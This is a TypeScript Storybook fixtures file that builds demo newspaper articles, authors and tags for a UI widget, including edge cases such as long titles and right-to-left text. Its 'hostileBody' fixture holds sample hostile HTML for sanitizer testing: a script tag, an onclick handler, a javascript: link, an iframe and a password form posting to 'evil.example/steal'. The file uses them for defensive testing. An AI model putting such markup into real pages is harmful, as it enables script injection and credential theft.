/**
 * Models for the stories, in the shapes the elements take as `.data`. Most come from the demo's
 * invented newspaper (demo/data/content.mjs), completed the way the reference endpoint completes
 * them (article URLs, tag URLs, view counts, related articles); the rest is the hard content a
 * widget must survive: very long titles, no image, decorative images, no avatar, many tags, a body
 * with every kind of block, hostile HTML, right-to-left text.
 */
import type { Article, ArticleSummary, Author, Tag } from '../src/index.js';
import { articles as rawArticles, authors as rawAuthors, tags as rawTags } from '../demo/data/content.mjs';

/** The invented publisher's site: article and tag links point there (nothing is served there). */
export const SITE = 'https://gazette.example';

/**
 * An illustration drawn by demo/data/media.mjs. The Storybook assets plugin serves (and, in a
 * static build, writes) them at `media/<name>.svg` next to the preview page.
 */
export function media(name: string): string {
  return new URL(`media/${name}.svg`, document.baseURI).href;
}

const absoluteMedia = (src: string) => src.replace(/^media\/([a-z0-9-]+)\.svg$/, (_, name: string) => media(name));
const bodyMedia = (html: string) => html.replace(/(src=")media\/([a-z0-9-]+\.svg)(")/g, (_, before: string, file: string, after: string) => `${before}${media(file.slice(0, -4))}${after}`);

type RawArticle = (typeof rawArticles)[number];
type RawAuthor = (typeof rawAuthors)[number];
type RawImage = { src: string; alt: string; caption?: string; width?: number; height?: number };

const image = <T extends RawImage | undefined>(value: T) => (value ? { ...value, src: absoluteMedia(value.src) } : undefined);
const tagUrl = (slug: string) => `${SITE}/tags/${slug}.html`;
const articleUrl = (slug: string) => `${SITE}/articles/${slug}.html`;

function toTag(tag: { slug: string; name: string }): Tag {
  return { slug: tag.slug, name: tag.name, url: tagUrl(tag.slug) };
}

function toAuthor(raw: RawAuthor): Author {
  return { ...structuredClone(raw), avatar: image((raw as { avatar?: RawImage }).avatar) };
}

function toSummary(raw: RawArticle): ArticleSummary {
  const author = raw.author as RawAuthor | undefined;
  return {
    id: raw.id,
    slug: raw.slug,
    url: articleUrl(raw.slug),
    title: raw.title,
    section: raw.section,
    publishedAt: raw.publishedAt,
    readingTimeMinutes: (raw as { readingTimeMinutes?: number }).readingTimeMinutes,
    image: image((raw as { image?: RawImage }).image),
    summary: raw.summary,
    author: author && { slug: author.slug, name: author.name, avatar: image((author as { avatar?: RawImage }).avatar) },
    tags: raw.tags.map(toTag),
  };
}

const newestFirst = (a: RawArticle, b: RawArticle) => Date.parse(b.publishedAt) - Date.parse(a.publishedAt);

/** The articles sharing most tags with one article, newest first: what the reference endpoint answers. */
function relatedTo(raw: RawArticle, limit = 4): ArticleSummary[] {
  const own = new Set(raw.tags.map((tag) => tag.slug));
  const shared = (other: RawArticle) => other.tags.filter((tag) => own.has(tag.slug)).length;
  return rawArticles
    .filter((other) => other.slug !== raw.slug)
    .sort((a, b) => shared(b) - shared(a) || newestFirst(a, b))
    .slice(0, limit)
    .map(toSummary);
}

function rawArticle(slug: string): RawArticle {
  const raw = rawArticles.find((candidate) => candidate.slug === slug);
  if (!raw) throw new Error(`No demo article ${slug}`);
  return raw;
}

/** A whole article as an endpoint would answer it (with `related`, unless asked not to). */
export function article(slug: string, { related = true } = {}): Article {
  const raw = rawArticle(slug);
  const extra = raw as { updatedAt?: string; readingTimeMinutes?: number; source?: Article['source']; disclosure?: Article['disclosure'] };
  return {
    ...toSummary(raw),
    updatedAt: extra.updatedAt,
    readingTimeMinutes: extra.readingTimeMinutes,
    viewCount: 1000 + (raw.title.length * 37) % 9000,
    language: raw.language,
    tags: raw.tags.map(toTag),
    bodyHtml: raw.bodyHtml && bodyMedia(raw.bodyHtml.trim()),
    source: extra.source,
    disclosure: extra.disclosure,
    author: raw.author && toAuthor(raw.author as RawAuthor),
    related: related ? relatedTo(raw) : undefined,
  };
}

export const summary = (slug: string): ArticleSummary => toSummary(rawArticle(slug));
export const related = (slug: string, limit = 4): ArticleSummary[] => relatedTo(rawArticle(slug), limit);
/** The latest articles with a tag, newest first. */
export const latestWithTag = (tag: string, limit = 4): ArticleSummary[] =>
  rawArticles
    .filter((raw) => raw.tags.some((candidate) => candidate.slug === tag))
    .sort(newestFirst)
    .slice(0, limit)
    .map(toSummary);

export function author(slug: string): Author {
  const raw = rawAuthors.find((candidate) => candidate.slug === slug);
  if (!raw) throw new Error(`No demo author ${slug}`);
  return toAuthor(raw);
}

/** Every tag, most used first (the endpoint's `tags` answer). */
export const allTags: Tag[] = rawTags
  .map((tag) => ({ tag, uses: rawArticles.filter((raw) => raw.tags.some((candidate) => candidate.slug === tag.slug)).length }))
  .sort((a, b) => b.uses - a.uses || a.tag.slug.localeCompare(b.tag.slug))
  .map(({ tag }) => toTag(tag));

export const slugs = rawArticles.map((raw) => raw.slug);

// ---------------------------------------------------------------- hard content

const LONG_TITLE =
  'Council approves the Inner Harbour regeneration, flood defence and sustainable transport masterplan for 2026–2046 after a fourteen-hour session, three adjournments and a record 1,200 submissions, including one from the Hafenbehördenverwaltungsgesellschaftsvorsitzende of Hafenau';

/** A title and summary far longer than an editor would allow, with an unbreakable 49-letter word. */
export const longTitle: Article = {
  ...article('harbour-bridge-reopens'),
  slug: 'harbour-masterplan-approved',
  url: articleUrl('harbour-masterplan-approved'),
  title: LONG_TITLE,
  summary: `${article('harbour-bridge-reopens').summary} ${article('storm-season-preparedness').summary} ${article('open-data-portal-launch').summary}`,
};

/** An article without a hero image (the card keeps its image box, so cards in a row line up). */
export const noImage: Article = article('school-heat-pumps');

/** An image without alt text: decorative, so it gets `alt=""` and screen readers skip it. */
export const decorativeImage: Article = article('library-repair-cafe');

/** An author without an avatar: the initials stand in. */
export const noAvatar: Author = author('ben-carraway');

/** The bare minimum the contract requires of an article. */
export const minimal: Article = {
  id: 'hg-min',
  slug: 'minimal-article',
  title: 'Ferry timetable unchanged for spring',
  publishedAt: '2026-03-01T08:00:00+00:00',
  tags: [],
};

/** Thirty tags: past `max`, a "+N more" toggle. */
export const manyTags: Tag[] = [
  ...allTags,
  ...['Council', 'Budget', 'Weather', 'Housing', 'Health', 'Libraries', 'Parks', 'Cycling', 'Buses', 'Ferries', 'Elections', 'Courts', 'Festivals', 'Theatre', 'Football', 'Sailing', 'Schools', 'Universities'].map(
    (name) => toTag({ slug: name.toLowerCase(), name }),
  ),
];

/** A body with every kind of block a publisher sends: headings, lists, quotes, a table, code, figures. */
export const richBody: Article = {
  ...article('open-data-portal-launch'),
  slug: 'style-guide-every-block',
  url: articleUrl('style-guide-every-block'),
  title: 'Every kind of block an article body may hold',
  summary: 'Headings, paragraphs with inline markup, lists, quotations, a table, code, figures and a definition list, as a publisher’s CMS sends them.',
  readingTimeMinutes: 3,
  bodyHtml: `
<p>A paragraph with <strong>strong</strong>, <em>emphasis</em>, <a href="${SITE}/about">a link</a>, <code>inline code</code>, <abbr title="Port Merrow City Council">PMCC</abbr>, <mark>a highlight</mark>, H<sub>2</sub>O, 10<sup>3</sup>, <kbd>Ctrl</kbd>+<kbd>C</kbd>, <s>struck</s> and <q>a short quotation</q>.</p>
<h2>A second-level heading</h2>
<p>The body’s headings sit below the article’s title, whatever level the page gives the title.</p>
<h3>A third-level heading</h3>
<ul>
<li>An unordered list item</li>
<li>Another one, with a nested list:
<ul><li>nested item one</li><li>nested item two</li></ul>
</li>
</ul>
<ol start="3">
<li>An ordered list that starts at three</li>
<li>and goes on to four</li>
</ol>
<blockquote cite="${SITE}/quotes/1"><p>A block quotation, which may run over several lines and carry a citation. It is set off from the text by a rule on its inline-start side, so it flips in right-to-left articles.</p></blockquote>
<table>
<caption>Departures from Pier Head, weekdays</caption>
<thead><tr><th scope="col">Line</th><th scope="col">First</th><th scope="col">Last</th><th scope="col">Every</th><th scope="col">Operator</th><th scope="col">Notes</th></tr></thead>
<tbody>
<tr><th scope="row">F1 Rochemer</th><td>06:10</td><td>22:40</td><td>30 min</td><td>Merrow Ferries</td><td>Bicycles free before 07:00</td></tr>
<tr><th scope="row">F2 Outer Islands</th><td>07:00</td><td>19:00</td><td>2 h</td><td>Island Link</td><td>Weather permitting</td></tr>
<tr><th scope="row">B12 Harbour loop</th><td>05:45</td><td>00:15</td><td>12 min</td><td>City Buses</td><td>Night service on Fridays and Saturdays</td></tr>
</tbody>
</table>
<pre><code>curl "https://example.org/port-merrow/api/v1/stops/PM0412/departures?limit=3"
# A long line that does not wrap, so the code block scrolls sideways instead of breaking the page layout: --header "Accept: application/json"</code></pre>
<figure>
<img src="${media('harbour-bridge')}" alt="The green iron swing bridge across the Inner Harbour at dawn" width="1200" height="675">
<figcaption>A figure with a caption, as the body brings it.</figcaption>
</figure>
<dl>
<dt>Swing bridge</dt><dd>A bridge that turns on a pivot to let ships through.</dd>
<dt>Tide gauge</dt><dd>An instrument that records the height of the sea.</dd>
</dl>
<hr>
<details><summary>A collapsible note</summary><p>Details and summary survive the sanitizer.</p></details>
`,
};

/** A body a hostile or compromised CMS might send: everything dangerous is removed before rendering. */
export const hostileBody: Article = {
  ...article('fish-market-night-shift', { related: false }),
  slug: 'hostile-body',
  url: articleUrl('hostile-body'),
  title: 'A body full of things that must never run',
  summary: 'Scripts, event handlers, styles, frames, forms and javascript: links: the sanitizer keeps the text and drops the rest.',
  bodyHtml: `
<p>Before the script.</p>
<script>document.body.style.background = 'red'; window.pwned = true;</script>
<p onclick="window.pwned = true" style="color: red; font-size: 5em">A paragraph with an onclick handler and an inline style (both removed).</p>
<p><a href="javascript:window.pwned = true">A javascript: link</a> keeps its text and loses its href.</p>
<style>* { display: none !important; }</style>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/steal"><label>Password <input type="password"></label><button>Send</button></form>
<p>After everything that was removed.</p>
`,
};

/** An Arabic article: laid out right to left whatever the page's language. */
export const rightToLeft: Article = article('calligraphy-festival-quayside');

/** One article per language the demo writes in (others use English content in the reader's locale). */
export const byLanguage: Record<string, Article> = {
  en: article('harbour-bridge-reopens'),
  fr: article('marche-nocturne-rochemer'),
  de: article('hafenau-radweg-kuestenstrasse'),
  es: article('regata-juvenil-puerto-albar'),
  ar: rightToLeft,
};

/** A model that breaks the contract: the element shows the validation error, naming the field. */
export const invalidArticle = { ...article('tide-gauge-century'), tags: [{ slug: 7, name: 'Seven' }] } as unknown as Article;
